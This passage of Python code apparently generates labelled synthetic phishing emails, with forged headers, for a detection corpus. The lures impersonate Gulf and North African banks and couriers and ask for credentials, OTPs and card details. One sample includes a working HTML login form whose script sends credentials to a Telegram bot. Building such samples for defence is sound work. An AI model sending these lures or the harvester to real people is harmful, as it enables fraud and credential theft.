            "To: ahmed.alshamsi87@gmail.com",
            "Subject: " + enc("Action Required: Your Emirates NBD account has been restricted | إجراء مطلوب"),
            f"Message-ID: {mid('phpmailer', stem, dom)}",
            "X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)",
            "MIME-Version: 1.0")
    return message(hdr, text(html, "html", "base64"))


@reg("phish-alrajhi-nafath", "phishing",
     "Arabic Al Rajhi Bank lure claiming SAMA requires Nafath re-verification or transfers and cards stop, "
     "t.ly shortener to a kit that asks for login, OTP and the Nafath number; sent from a look-alike domain.")
def _p_rajhi(stem):
    d = when("2025-06-03T07:15:22+00:00")
    dom = "rjhi-services.com"
    link = "https://t.ly/Rj-Nfz8"
    inner = f"""<div style="max-width:560px;margin:0 auto;border:1px solid #e3e3e3;">
<div style="background:#1a3e8c;padding:16px;text-align:right;color:#fff;font-size:20px;font-weight:bold;">مصرف الراجحي</div>
<div style="padding:20px;text-align:right;line-height:26px;">
<p>عميلنا الكريم،</p>
<p>وفقاً لتعليمات البنك المركزي السعودي (ساما)، يتعين على جميع العملاء تحديث بياناتهم وتوثيقها عبر منصة النفاذ الوطني الموحد <b>(نفاذ)</b>.</p>
<p>نفيدكم بأنه لم يتم تحديث بياناتكم حتى تاريخه، وسيتم <span style="color:#c00;font-weight:bold;">إيقاف الحوالات والبطاقات مؤقتاً</span> بتاريخ 05/06/2025 في حال عدم التحديث.</p>
<p>للتحديث اضغط على الزر أدناه وأدخل اسم المستخدم وكلمة المرور ثم رمز التحقق المرسل إلى جوالك، وافتح تطبيق نفاذ لاختيار الرقم الظاهر.</p>
<p style="text-align:center;margin:28px 0;"><a href="{link}" style="background:#1a3e8c;color:#fff;padding:12px 40px;text-decoration:none;border-radius:6px;">تحديث البيانات</a></p>
<p style="font-size:12px;color:#777;">مصرف الراجحي - شركة مساهمة سعودية - سجل تجاري رقم 1010000096 - خاضع لرقابة وإشراف البنك المركزي السعودي</p>
</div></div>"""
    hdr = H(rx("outlookcom", rcpt="sultan.alotaibi@outlook.sa", d=d, helo=f"mail.{dom}", ip="45.137.21.187",
               mailfrom=f"noreply@{dom}", seed=stem, dkims=[(dom, "mail", "pass")], dmarc=None, hfrom=dom),
            dkim(dom, "mail", stem, d),
            "From: " + addr("مصرف الراجحي", f"noreply@{dom}"),
            "To: sultan.alotaibi@outlook.sa",
            "Subject: " + enc("تنبيه: يلزم توثيق حسابك عبر نفاذ لتجنب إيقاف الخدمات"),
            f"Date: {rfc(d)}",
            f"Message-ID: {mid('generic', stem, dom)}",
            "MIME-Version: 1.0",
            exch(stem, d, "outlookcom"))
    return message(hdr, text(kit_html(inner, rtl=True), "html", "base64"))


@reg("phish-snb-frozen", "phishing",
     "Arabic SNB (Saudi National Bank) 'account frozen pending KYC update' lure in windows-1256, sent from a "
     "compromised Brazilian clinic mailbox, the link text shows alahli.com but points to a kit on the clinic's WordPress.")
def _p_snb(stem):
    d = when("2024-11-20T09:03:41-03:00")
    dom = "clinicavetpaulista.com.br"
    link = f"https://{dom}/wp-includes/js/snb/ksa/login.php?ref={hx(stem, 10)}"
    html = f"""<html dir="rtl"><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1256"></head>
<body dir="rtl"><div style="font-family:Tahoma;font-size:14px;text-align:right;">
<p><b>البنك الأهلي السعودي</b></p>
<p>عميلنا العزيز،</p>
<p>نود إبلاغكم بأنه تم تجميد حسابكم مؤقتاً بسبب انتهاء صلاحية بيانات اعرف عميلك (KYC) المسجلة لدينا، وذلك التزاماً بتعليمات البنك المركزي السعودي.</p>
<p>لإعادة تفعيل الحساب وتجنب إيقاف البطاقات والحوالات بشكل نهائي يرجى تحديث بياناتكم خلال 48 ساعة عبر الرابط التالي:</p>
<p><a href="{link}">https://www.alahli.com/ar/login</a></p>
<p>مع تحيات،<br>فريق خدمة العملاء<br>البنك الأهلي السعودي</p>
</div></body></html>
"""
    hdr = H(rx("postfix", rcpt="m.alharthi@alwaha-trading.com.sa", d=d, helo=f"mail.{dom}", ip="191.252.112.47",
               rdns="hm2847.locaweb.com.br", mailfrom=f"contato@{dom}", seed=stem,
               dkims=[(dom, "default", "pass")], dmarc=None, hfrom=dom),
            dkim(dom, "default", stem, d, h="From:To:Subject:Date:Message-ID:MIME-Version:Content-Type"),
            "From: " + addr("البنك الأهلي السعودي SNB", f"contato@{dom}", "windows-1256"),
            "To: m.alharthi@alwaha-trading.com.sa",
            "Subject: " + enc("البنك الأهلي السعودي: تم تجميد حسابكم مؤقتاً - إجراء مطلوب", "windows-1256"),
            f"Date: {rfc(d)}",
            f"Message-ID: <{hx(stem, 12).upper()}$0{hx(stem + 'x', 9).upper()}$@{dom}>",
            "X-Mailer: Microsoft Outlook Express 6.00.2900.5512",
            "X-Priority: 1",
            "MIME-Version: 1.0")
    return message(hdr, text(html, "html", "base64", "windows-1256"))


@reg("phish-qnb-redirect", "phishing",
     "QNB 'debit card temporarily blocked' lure to a Doha company employee from a look-alike domain, the button "
     "goes through a google.com/url redirect to the card-reactivation kit.")
def _p_qnb(stem):
    d = when("2025-01-22T06:02:44+00:00")
    dom = "qnb-cardservices.com"
    target = f"https://{dom}/qa/en/card-reactivation?c={hx(stem, 16)}"
    link = f"https://www.google.com/url?q={target}&amp;sa=D&amp;sntz=1&amp;usg=AOvVaw{mixed(stem + 'u', 22)}"
    html = brand_html(
        title="Your Debit Card has been temporarily blocked", brand="QNB", color="#4b0d4f",
        paras=["Dear Customer,",
               "We noticed several declined attempts to use your QNB Debit Card ending <b>4417</b> for online purchases. "
               "As a precaution, the card has been temporarily blocked.",
               "To reactivate your card please confirm your card details and the one-time password sent to your registered "
               "mobile number. If the card is not reactivated within 12 hours it will be cancelled and a replacement fee of "
               "QAR 50 will apply.",
               "Thank you for banking with QNB."],
        button=("Reactivate My Card", link),
        footer=["QNB Group, P.O. Box 1000, Doha, Qatar", "Please do not reply to this email."])
    txt = plain(["Dear Customer,",
                 "We noticed several declined attempts to use your QNB Debit Card ending 4417. As a precaution, the card has "
                 "been temporarily blocked.",
                 f"Reactivate your card: {target}",
                 "QNB Group, P.O. Box 1000, Doha, Qatar"], 76)
    hdr = H(rx("m365", rcpt="r.menon@doha-marinetech.com.qa", d=d, helo=dom, ip="45.88.186.23",
               mailfrom=f"alerts@{dom}", seed=stem, dkims=[], dmarc=None, hfrom=dom),
            f"From: QNB Card Services <alerts@{dom}>",
            "To: r.menon@doha-marinetech.com.qa",
            "Subject: Your QNB Debit Card ending 4417 has been temporarily blocked",
            f"Date: {rfc(d)}",
            f"Message-ID: {mid('dated', stem, dom, d)}",
            "MIME-Version: 1.0",
            exch(stem, d))
    return message(hdr, alt(stem, txt, html))


@reg("phish-nbk-sendgrid", "phishing",
     "Bilingual NBK (National Bank of Kuwait) 'KNET payment declined, confirm your card' lure sent through an abused "
     "SendGrid account with a look-alike sending domain, click-tracking redirect to the card-harvesting page.")
def _p_nbk(stem):
    d = when("2025-09-09T17:22:10+00:00")
    dom = "nbk-kw-online.com"
    uid = "38471920"
    link = f"https://u{uid}.ct.sendgrid.net/ls/click?upn=u001.{mixed(stem + 'up', 120)}-2B{mixed(stem + 'up2', 60)}"
    pixel = f"https://u{uid}.ct.sendgrid.net/wf/open?upn=u001.{mixed(stem + 'op', 140)}"
    html = brand_html(
        title="KNET payment declined / تم رفض عملية الدفع", brand="NBK", color="#002f6c", pixel=pixel,
        paras=["Dear Customer,",
               "A payment of <b>KWD 14.750</b> to <b>Talabat</b> via KNET was declined because your card details need to be "
               "re-confirmed. To avoid the suspension of your NBK card please confirm your details within 24 hours.",
               '<div dir="rtl" style="text-align:right;">عميلنا العزيز،<br />تم رفض عملية دفع بقيمة 14.750 د.ك عبر كي نت '
               "لعدم تأكيد بيانات بطاقتك. يرجى تأكيد البيانات خلال 24 ساعة لتجنب إيقاف البطاقة.</div>"],
        button=("Confirm details | تأكيد البيانات", link),
        footer=["National Bank of Kuwait S.A.K.P. | Abdullah Al-Ahmad Street, Sharq, Kuwait",
                "You are receiving this email because you are an NBK customer."])
    mf = f"bounces+{uid}-{hx(stem + 'bb', 4)}-abdullah.alenezi.kw=gmail.com@em8213.{dom}"
    hdr = H(rx("gmail", rcpt="abdullah.alenezi.kw@gmail.com", d=d, helo="o1.ptr4821.nbk-kw-online.com",
               ip="149.72.161.59", mailfrom=mf, seed=stem,
               dkims=[(dom, "s1", "pass"), ("sendgrid.info", "smtpapi", "pass")], dmarc=None, hfrom=dom),
            dkim(dom, "s1", stem, d, h="from:mime-version:subject:content-type:to:cc:content-type:from:subject:to",
                 extra=""),
            dkim("sendgrid.info", "smtpapi", stem, d, h="from:mime-version:subject:content-type:to:cc:content-type:from:subject:to"),
            f"Received: by recvd-{hx(stem + 'rv', 10)}-{an(stem + 'rv2', 5)} with SMTP id {mixed(stem + 'rv3', 22)}\n"
            f"        Tue, 09 Sep 2025 17:22:09.{dg(stem + 'ms', 3)} +0000 (UTC)",
            f"Received: from {dom} (unknown)\n\tby geopod-ismtpd-{int(dg(stem + 'gp', 2))} (SG) with HTTP\n"
            f"\tid {mixed(stem + 'rv3', 22)}\n\tTue, 09 Sep 2025 17:22:09.{dg(stem + 'ms2', 3)} +0000 (UTC)",
            f"Date: {rfc(d)}",
            f"From: NBK <no-reply@{dom}>",
            "Subject: " + enc("NBK | Payment declined - action required | تم رفض عملية الدفع"),
            f"Message-ID: {mid('sendgrid', stem)}",
            "MIME-Version: 1.0",
            f"X-SG-EID: u001.{mixed(stem + 'eid', 120)}",
            f"X-SG-ID: u001.SdBcvi+Evd/bQef8eZF3BpS{mixed(stem + 'sgid', 60)}",
            "To: abdullah.alenezi.kw@gmail.com",
            f"X-Entity-ID: u001.{mixed(stem + 'ent', 22)}==")
    txt = plain(["Dear Customer,", "A payment of KWD 14.750 to Talabat via KNET was declined. Please confirm your card "
                 "details within 24 hours to avoid suspension.", f"Confirm details ( {link} )",
                 "National Bank of Kuwait S.A.K.P."])
    return message(hdr, alt(stem, txt, html))


@reg("phish-cib-pagesdev", "phishing",
     "Arabic CIB Egypt 'internet banking suspended, update your national ID details' lure from a free Outlook.com "
     "account with a bank display name, link to a kit hosted on Cloudflare Pages (pages.dev).")
def _p_cib(stem):
    d = when("2025-04-14T08:26:51+00:00")
    sender = "cib.egypt.support@outlook.com"
    link = "https://cib-eg-online.pages.dev/login?lang=ar"
    html = f"""<html dir="rtl"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body dir="rtl"><div style="font-family:Segoe UI,Tahoma;font-size:15px;text-align:right;line-height:1.7;">
<p style="font-size:18px;color:#003c71;"><b>البنك التجاري الدولي - مصر CIB</b></p>
<p>عميلنا العزيز،</p>
<p>تم إيقاف خدمة الإنترنت البنكي (CIB Internet Banking) الخاصة بكم مؤقتاً نظراً لعدم تحديث بيانات بطاقة الرقم القومي طبقاً لتعليمات البنك المركزي المصري.</p>
<p>برجاء تحديث البيانات من خلال الرابط التالي خلال 24 ساعة لتفادي إيقاف البطاقات الخاصة بكم:</p>
<p><a href="{link}" style="color:#fff;background:#003c71;padding:10px 26px;text-decoration:none;">تحديث البيانات الآن</a></p>
<p>شكراً لاختياركم البنك التجاري الدولي.<br>خدمة العملاء 19666</p>
</div></body></html>
"""
    txt = plain(["عميلنا العزيز،", "تم إيقاف خدمة الإنترنت البنكي الخاصة بكم مؤقتاً نظراً لعدم تحديث بيانات بطاقة الرقم القومي.",
                 f"برجاء تحديث البيانات من خلال الرابط: {link}", "البنك التجاري الدولي - مصر"])
    hdr = H(rx("yahoo", rcpt="omar_farouk77@yahoo.com", d=d, helo="EUR05-AM6-obe.outbound.protection.outlook.com",
               ip="40.92.64.101", mailfrom=sender, seed=stem, dkims=[("outlook.com", "selector1", "pass")],
               dmarc=("pass", "NONE"), hfrom="outlook.com"),
            "ARC-Seal: i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;\n b=" + wrap_b64(b64(stem + "as", 344), " ", 72),
            dkim("outlook.com", "selector1", stem, d, h="From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"),
            f"Received: from AS8P195MB{dg(stem + 'a1', 4)}.EURP195.PROD.OUTLOOK.COM (2603:10a6:20b:{hx(stem + 'a2', 3)}::{hx(stem + 'a3', 2)})\n"
            f" by AS8P195MB{dg(stem + 'a1', 4)}.EURP195.PROD.OUTLOOK.COM with Microsoft SMTP Server (version=TLS1_2,\n"
            f" cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.8632.30; {ms_date(d - timedelta(seconds=1))}",
            "From: " + addr("CIB Egypt", sender),
            "To: " + addr("", "omar_farouk77@yahoo.com"),
            "Subject: " + enc("تنبيه أمني: تم إيقاف خدمة CIB Internet Banking مؤقتاً"),
            f"Date: {rfc(d)}",
            f"Message-ID: {mid('outlook', stem, 'EURP195')}",
            "Accept-Language: ar-EG, en-US",
            "Content-Language: ar-EG",
            "X-MS-Has-Attach:",
            "X-MS-TNEF-Correlator:",
            "MIME-Version: 1.0")
    return message(hdr, alt(stem, txt, html, "outlook", "base64"))


@reg("phish-attijari-certificat", "phishing",
     "French Attijariwafa bank 'votre certificat de sécurité Attijarinet expire' lure from a look-alike domain with "
     "its own SPF/DKIM/DMARC, link to the certificate-renewal credential page on the same domain.")
def _p_attijari(stem):
    d = when("2024-12-05T09:30:12+01:00")
    dom = "attijarinet-ma.com"
    link = f"https://{dom}/particulier/certificat/renouvellement?id={hx(stem, 24)}"
    paras = ["Cher(e) client(e),",
             "Nous vous informons que le certificat de sécurité associé à votre accès <b>Attijarinet</b> arrive à expiration "
             "le <b>07/12/2024</b>.",
             "Afin de continuer à effectuer vos virements et consulter vos comptes en toute sécurité, nous vous invitons à "
             "renouveler votre certificat dès maintenant. L'opération ne prend que quelques minutes : munissez-vous de vos "
             "identifiants et du code reçu par SMS.",
             "Passé ce délai, l'accès à vos services de banque en ligne sera suspendu."]
    html = brand_html(title="Renouvellement de votre certificat de sécurité", brand="Attijariwafa bank", color="#f39200",
                      paras=paras, button=("Renouveler mon certificat", link), lang="fr",
                      footer=["Attijariwafa bank - Société Anonyme au capital de 2 151 408 390 dirhams - 2, boulevard Moulay Youssef, Casablanca",
                              "Ceci est un message automatique, merci de ne pas y répondre."])
    txt = plain([p.replace("<b>", "").replace("</b>", "") for p in paras] + [f"Renouveler mon certificat : {link}",
                 "Attijariwafa bank"], 76)
    hdr = H(rx("gmail", rcpt="yasmine.benali@gmail.com", d=d, helo=f"mail.{dom}", ip="91.92.243.118",
               mailfrom=f"securite@{dom}", seed=stem, dkims=[(dom, "default", "pass")], dmarc=("pass", "none"), hfrom=dom),
            dkim(dom, "default", stem, d),
            "From: Attijariwafa bank <securite@" + dom + ">",
            "To: yasmine.benali@gmail.com",
            "Subject: " + enc("Attijarinet : votre certificat de sécurité expire le 07/12/2024"),
            f"Date: {rfc(d)}",
            f"Message-ID: {mid('phpmailer', stem, dom)}",
            "X-Mailer: PHPMailer 6.8.0 (https://github.com/PHPMailer/PHPMailer)",
            "MIME-Version: 1.0")
    return message(hdr, alt(stem, txt, html, "phpmailer"))


@reg("phish-bmce-htmlattach", "phishing",
     "French Bank of Africa - BMCE Direct Entreprises 'security reinforcement' mail to a Moroccan company's accounting "
     "mailbox with an HTML attachment holding a fake login form that posts the credentials to a Telegram bot.")
def _p_bmce(stem):
    d = when("2025-05-20T11:04:51+01:00")
    dom = "bmcedirect-ma.net"
    page = f"""<!DOCTYPE html>
<html lang="fr"><head><meta charset="utf-8"><title>BMCE Direct Entreprises - Authentification</title>
<style>body{{font-family:Arial;background:#f4f6f9}}.box{{width:380px;margin:60px auto;background:#fff;padding:30px;border-top:4px solid #00539b}}
input{{width:100%;padding:10px;margin:8px 0;border:1px solid #ccc}}button{{background:#00539b;color:#fff;border:0;padding:12px;width:100%}}</style></head>
<body><div class="box"><h3>Bank Of Africa - BMCE Direct Entreprises</h3>
<p>Veuillez confirmer vos identifiants pour finaliser la mise à jour de sécurité.</p>
<form id="f"><input name="client" placeholder="Identifiant client" required>
<input name="user" placeholder="Code utilisateur" required>
<input type="password" name="pwd" placeholder="Mot de passe" required>
<input name="otp" placeholder="Code reçu par SMS">
<button type="submit">Valider</button></form></div>
<script>
var t="{dg(stem + 'bot', 10)}:AAH{mixed(stem + 'tok', 32)}",c="-{dg(stem + 'chat', 10)}";
document.getElementById("f").onsubmit=function(e){{e.preventDefault();var d=new FormData(this),m="BMCE\\n";
d.forEach(function(v,k){{m+=k+": "+v+"\\n"}});
fetch("https://api.telegram.org/bot"+t+"/sendMessage?chat_id="+c+"&text="+encodeURIComponent(m)).then(function(){{
location.href="https://www.bmcedirect.ma/"}})}};
</script></body></html>
"""
    body = plain(["Madame, Monsieur,",
                  "Dans le cadre du renforcement de la sécurité de vos accès BMCE Direct Entreprises, et conformément aux "
                  "nouvelles exigences de Bank Al-Maghrib, nous vous prions d'ouvrir le document ci-joint et de confirmer "
                  "vos identifiants avant le 22/05/2025.",
                  "Sans confirmation de votre part, les virements et remises en attente seront bloqués.",
                  "Cordialement,\nService Clientèle Entreprises\nBank Of Africa - BMCE Group"], 76)
    att = Leaf("text/html", page.encode(), "base64", '; charset="utf-8"; name="BMCE_Direct_Securite.html"',
               'attachment; filename="BMCE_Direct_Securite.html"')
    hdr = H(rx("postfix", rcpt="comptabilite@atlas-agro.ma", d=d, helo=f"srv1.{dom}", ip="194.87.31.206",
               mailfrom=f"notification@{dom}", seed=stem, dkims=[], dmarc=None, hfrom=dom),
            f"From: Bank Of Africa - BMCE Direct <notification@{dom}>",
            "To: comptabilite@atlas-agro.ma",
            "Subject: " + enc("BMCE Direct Entreprises : mise à jour de sécurité obligatoire"),
            f"Date: {rfc(d)}",
            f"Message-ID: {mid('generic', stem, 'srv1.' + dom)}",
            "MIME-Version: 1.0")
    return message(hdr, mixed_(stem, text(body, "plain", "8bit"), [att]))


@reg("phish-cih-qr", "phishing",
     "French/Arabic CIH Bank 'CIH Mobile reactivation' quishing mail from a compromised Moroccan riad's OVH mailbox; "
     "the only call to action is an inline QR code image pointing at the credential kit.")
def _p_cih(stem):
    d = when("2025-10-08T14:12:00+01:00")
    dom = "riad-dar-zitoune.com"
    qr_url = f"https://cih-mobile-ma.com/r/?id={hx(stem, 12)}"
    cid = f"qr{hx(stem + 'cid', 8)}@cih"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>
<div style="font-family:Arial;font-size:14px;max-width:560px;">
<p style="font-size:18px;color:#e2001a;"><b>CIH BANK</b></p>
<p>Cher client,</p>
<p>Suite à la mise à jour de notre système, votre application <b>CIH Mobile</b> doit être réactivée avant le <b>10/10/2025</b>.
Pour des raisons de sécurité, la réactivation se fait uniquement depuis votre smartphone.</p>
<p>Scannez le code QR ci-dessous avec l'appareil photo de votre téléphone et suivez les instructions :</p>
<p><img src="cid:{cid}" width="200" height="200" alt="QR"></p>
<p dir="rtl" style="text-align:right;">عميلنا العزيز، يرجى إعادة تفعيل تطبيق CIH Mobile قبل 10/10/2025 عبر مسح رمز QR أعلاه بهاتفك.</p>
<p style="font-size:11px;color:#888;">CIH BANK - 187, avenue Hassan II, Casablanca</p>
</div></body></html>
"""
    rel = Multi("related", boundary(stem + "rel"), [text(html, "html"),
                Leaf("image/png", F.qr_png(qr_url), "base64", '; name="image001.png"', 'inline; filename="image001.png"',
                     [f"Content-ID: <{cid}>"])])
    hdr = H(rx("gmail", rcpt="h.elidrissi@gmail.com", d=d, helo=f"mo{dg(stem + 'mo', 3)}.mail-out.ovh.net",
               ip="178.32.121.74", mailfrom=f"contact@{dom}", seed=stem,
               dkims=[(dom, "ovhmo-selector-1", "pass")], dmarc=None, hfrom=dom),
            dkim(dom, "ovhmo-selector-1", stem, d),
            f"Received: from mta{dg(stem + 'mt', 1)}.priv.ovhmail-u1.ovh.net (unknown [10.109.{int(dg(stem + 'o1', 3)) % 250}.{int(dg(stem + 'o2', 3)) % 250}])\n"
            f"\tby mo{dg(stem + 'mo', 3)}.mail-out.ovh.net (Postfix) with ESMTPS id 4c{mixed(stem + 'oq', 10)}\n"
            f"\tfor <h.elidrissi@gmail.com>; {rfc(utc(d))} (UTC)",
            f"From: CIH BANK <contact@{dom}>",
            "To: h.elidrissi@gmail.com",
            "Subject: " + enc("CIH Mobile : réactivation obligatoire de votre application"),
            f"Date: {rfc(d)}",
            f"Message-ID: <{hx(stem, 32)}@{dom}>",
            f"X-Ovh-Tracer-Id: {dg(stem + 'tr', 19)}",
            "MIME-Version: 1.0")
    return message(hdr, rel)


@reg("phish-fab-webapp", "phishing",
     "First Abu Dhabi Bank 'FAB Mobile re-verification with UAE PASS' lure sent from a compromised Indian textile "
     "company mailbox on GoDaddy cPanel, link to a Firebase-hosted (web.app) kit.")
def _p_fab(stem):
    d = when("2025-07-15T05:48:19+00:00")
    dom = "shreeganeshtextiles.in"
    link = f"https://fab-ae-verify.web.app/?uid={hx(stem, 20)}"
    html = brand_html(
        title="FAB Mobile: re-verification required", brand="First Abu Dhabi Bank", color="#0a2240",
        paras=["Dear Customer,",
               "In line with the UAE Central Bank's new digital identity requirements, all FAB Mobile users must re-verify "
               "their profile using UAE PASS by <b>17 July 2025</b>.",
               "Customers who do not complete the re-verification will have their FAB Mobile and Online Banking access "
               "deactivated and their debit cards placed on hold.",
               '<div dir="rtl" style="text-align:right;">يرجى إعادة التحقق من حسابك عبر الهوية الرقمية قبل 17 يوليو 2025 لتجنب إيقاف الخدمات.</div>'],
        button=("Re-verify with UAE PASS", link),
        footer=["First Abu Dhabi Bank PJSC, FAB Building, Khalifa Business Park, Al Qurm District, Abu Dhabi, UAE"])
    hdr = H(rx("m365", rcpt="s.kapoor@alnoor-contracting.ae", d=d, helo="p3plzcpnl506781.prod.phx3.secureserver.net",
               ip="184.168.125.63", mailfrom=f"accounts@{dom}", seed=stem, dkims=[(dom, "default", "pass")],
               dmarc=None, hfrom=dom),
            dkim(dom, "default", stem, d, h="Content-Transfer-Encoding:Content-Type:MIME-Version:Message-ID:Subject:To:From:Date:Sender:Reply-To"),
            f"Received: from [102.88.{int(dg(stem + 'i1', 3)) % 250}.{int(dg(stem + 'i2', 3)) % 250}] (port={40000 + int(dg(stem + 'pt', 4))} helo=WIN-{AN(stem + 'w', 11)})\n"
            f"\tby p3plzcpnl506781.prod.phx3.secureserver.net with esmtpsa  (TLS1.2) tls TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384\n"
            f"\t(Exim 4.96.2)\n\t(envelope-from <accounts@{dom}>)\n\tid 1u{mixed(stem + 'ex', 5)}-0000{AN(stem + 'ex2', 2)}-{AN(stem + 'ex3', 2)}\n"
            f"\tfor s.kapoor@alnoor-contracting.ae;\n\t{rfc(d.astimezone(timezone(timedelta(hours=-7))))}",
            f"Date: {rfc(d)}",
            f"From: First Abu Dhabi Bank <accounts@{dom}>",
            "To: s.kapoor@alnoor-contracting.ae",
            "Subject: FAB Mobile - Re-verification with UAE PASS required",
            f"Message-ID: <{hx(stem, 32)}@WIN-{AN(stem + 'w', 11)}>",
            "MIME-Version: 1.0",
            exch(stem, d))
    return message(hdr, text(html, "html", "quoted-printable"))


@reg("phish-emiratespost-fee", "phishing",
     "Bilingual Emirates Post 'shipment on hold, pay AED 7.35 customs fee' lure to a Hotmail user from a look-alike "
     "sending domain, link to a card-harvesting payment page under a tracking-themed domain.")
def _p_epost(stem):
    d = when("2025-02-27T12:31:40+00:00")
    dom = "emiratespost-delivery.com"
    link = f"https://emiratespost.ae-track.info/pay/?trk=EP{dg(stem, 9)}AE"
    html = brand_html(
        title="Your shipment is on hold | شحنتك معلقة", brand="Emirates Post", color="#c8102e",
        paras=[f"Shipment number: <b>EP{dg(stem, 9)}AE</b>",
               "Your parcel has arrived at our Dubai sorting centre but cannot be delivered because customs duty of "
               "<b>AED 7.35</b> has not been paid.",
               "Please pay the fee within 48 hours, otherwise the parcel will be returned to the sender.",
               '<div dir="rtl" style="text-align:right;">وصلت شحنتك إلى مركز الفرز في دبي ولا يمكن توصيلها لعدم سداد '
               "الرسوم الجمركية البالغة 7.35 درهم. يرجى السداد خلال 48 ساعة وإلا ستتم إعادة الشحنة إلى المرسل.</div>"],
        button=("Pay now | ادفع الآن", link),
        footer=["Emirates Post Group - 2025", "This is an automated email."])
    hdr = H(rx("outlookcom", rcpt="fatima_alzaabi@hotmail.com", d=d, helo=f"mx.{dom}", ip="193.143.1.58",
               mailfrom=f"noreply@{dom}", seed=stem, dkims=[], dmarc=None, hfrom=dom, spf="pass"),
            f"From: Emirates Post <noreply@{dom}>",
            "To: fatima_alzaabi@hotmail.com",
            "Subject: " + enc("Emirates Post: Your shipment is on hold - customs fee AED 7.35 pending"),
            f"Date: {rfc(d)}",
            f"Message-ID: {mid('generic', stem, dom)}",
            "MIME-Version: 1.0",
            exch(stem, d, "outlookcom"))
    return message(hdr, text(html, "html", "base64"))


@reg("phish-aramex-address", "phishing",
     "Bilingual Aramex 'delivery attempt failed, update your address' lure to a Saudi Gmail user from a look-alike "
     "domain, link to an address-and-card form on a .top domain.")
def _p_aramex(stem):
    d = when("2024-10-02T07:10:05+00:00")
    dom = "aramexdelivery-sa.com"
    awb = "4418832097"
    link = f"https://aramex-ksa.delivery-update.top/track?awb={awb}&s={hx(stem, 8)}"
    paras = ["Dear Customer,",
             f"We attempted to deliver your shipment <b>AWB {awb}</b> today but the address provided is incomplete.",
             "Please update your delivery address and confirm the redelivery fee of <b>SAR 6.90</b> so that we can "
             "schedule a new delivery within 24 hours.",
             '<div dir="rtl" style="text-align:right;">عميلنا العزيز، تعذر توصيل شحنتك بسبب عدم اكتمال العنوان. '
             "يرجى تحديث العنوان وسداد رسوم إعادة التوصيل 6.90 ريال.</div>"]
    html = brand_html(title="Delivery attempt failed", brand="aramex", color="#dc291e", paras=paras,
                      button=("Update address", link), footer=["Aramex International LLC", "Do not reply to this email."])
    hdr = H(rx("gmail", rcpt="noura.alqahtani@gmail.com", d=d, helo=f"mail.{dom}", ip="5.181.156.92",
               mailfrom=f"support@{dom}", seed=stem, dkims=[(dom, "dkim", "pass")], dmarc=None, hfrom=dom),
            dkim(dom, "dkim", stem, d),
            f"From: Aramex <support@{dom}>",
            "To: noura.alqahtani@gmail.com",
            f"Subject: Aramex: Delivery attempt failed - update your address (AWB {awb})",
            f"Date: {rfc(d)}",
            f"Message-ID: {mid('phpmailer', stem, dom)}",
            "MIME-Version: 1.0")
    return message(hdr, text(html, "html", "quoted-printable"))


@reg("phish-smsa-shortener", "phishing",
     "Arabic SMSA Express 'parcel waiting, pay SAR 9.50 redelivery fee' lure sent from a compromised small web "
     "shop's mail server, link through the is.gd shortener to the payment kit.")
def _p_smsa(stem):
    d = when("2025-08-12T19:40:33+00:00")
    dom = "bloomflowers.shop"
    link = "https://is.gd/SmSa9k"
    inner = f"""<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table width="520" cellpadding="14" cellspacing="0" style="border:1px solid #ddd;">
<tr><td style="background:#4a2c83;color:#fff;font-size:20px;text-align:right;"><b>SMSA Express | سمسا</b></td></tr>
<tr><td style="text-align:right;line-height:26px;">
<p>عزيزي العميل،</p>
<p>شحنتك رقم <b>{dg(stem, 12)}</b> موجودة حالياً في مستودع الرياض ولم نتمكن من تسليمها بسبب عدم سداد رسوم إعادة التوصيل.</p>
<p>المبلغ المستحق: <b>9.50 ريال سعودي</b></p>
<p>يرجى السداد خلال 24 ساعة لتجنب إعادة الشحنة إلى المرسل.</p>
<p style="text-align:center;"><a href="{link}" style="background:#ff6b00;color:#fff;padding:10px 30px;text-decoration:none;">ادفع الآن</a></p>
</td></tr></table></td></tr></table>"""
    hdr = H(rx("gmail", rcpt="fahad.alharbi92@gmail.com", d=d, helo=f"mail.{dom}", ip="162.241.62.19",
               rdns="box5519.bluehost.com", mailfrom=f"noreply@{dom}", seed=stem, dkims=[(dom, "default", "pass")],
               dmarc=None, hfrom=dom),
            dkim(dom, "default", stem, d),
            "From: " + addr("SMSA Express", f"noreply@{dom}"),
            "To: fahad.alharbi92@gmail.com",
            "Subject: " + enc("سمسا: شحنتك بانتظار دفع رسوم إعادة التوصيل (9.50 ريال)"),
            f"Date: {rfc(d)}",
            f"Message-ID: {mid('phpmailer', stem, dom)}",
            "X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)",
            "MIME-Version: 1.0")
    return message(hdr, text(kit_html(inner, True), "html", "base64"))


@reg("phish-egyptpost-brevo", "phishing",
     "Arabic Egypt Post 'parcel held at customs, pay EGP 35' lure sent through an abused Brevo (Sendinblue) account, "
     "tracked redirect to a Netlify-hosted payment kit.")
def _p_egpost(stem):
    d = when("2025-11-04T10:05:00+00:00")
    link = f"https://r.mailin-fr.com/mk/cl/f/sh/{mixed(stem + 'bl', 40)}/{mixed(stem + 'bl2', 18)}"
    pixel = f"https://r.mailin-fr.com/mk/op/sh/{mixed(stem + 'bp', 40)}/{mixed(stem + 'bp2', 12)}"
    html = brand_html(
        title="شحنتك محتجزة لدى الجمارك", brand="البريد المصري", color="#0b6e4f", rtl=True, lang="ar", pixel=pixel,
        paras=["عميلنا العزيز،",
               f"نحيطكم علماً بأن الطرد رقم <b>CP{dg(stem, 9)}EG</b> الوارد إليكم من الخارج محتجز حالياً لدى مصلحة الجمارك.",
               "يرجى سداد رسوم التخليص الجمركي وقدرها <b>35 جنيه مصري</b> خلال 48 ساعة حتى يتم تسليم الطرد إلى عنوانكم.",
               "في حالة عدم السداد سيتم إرجاع الطرد إلى الراسل."],
        button=("سداد الرسوم", link),
        footer=["الهيئة القومية للبريد - جمهورية مصر العربية", "لإلغاء الاشتراك اضغط هنا"])
